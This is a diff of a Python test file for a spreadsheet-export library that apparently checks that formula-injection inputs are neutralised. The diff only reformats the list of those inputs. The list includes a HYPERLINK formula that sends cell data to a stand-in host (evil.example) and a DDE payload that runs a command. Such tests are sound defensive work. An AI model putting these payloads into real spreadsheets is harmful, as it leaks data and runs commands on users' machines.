@@ -7,8 +7,15 @@ from openpyxl import load_workbook
 
 from faro.lib.xlsx import csv_text, neutralise, workbook_bytes
 
-HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
-           "=cmd|' /C calc'!A0"]  # fmt: skip
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+    "\rx",
+    "=cmd|' /C calc'!A0",
+]
 
 
 STARTS = ("=", "+", "-", "@", "\t", "\r")
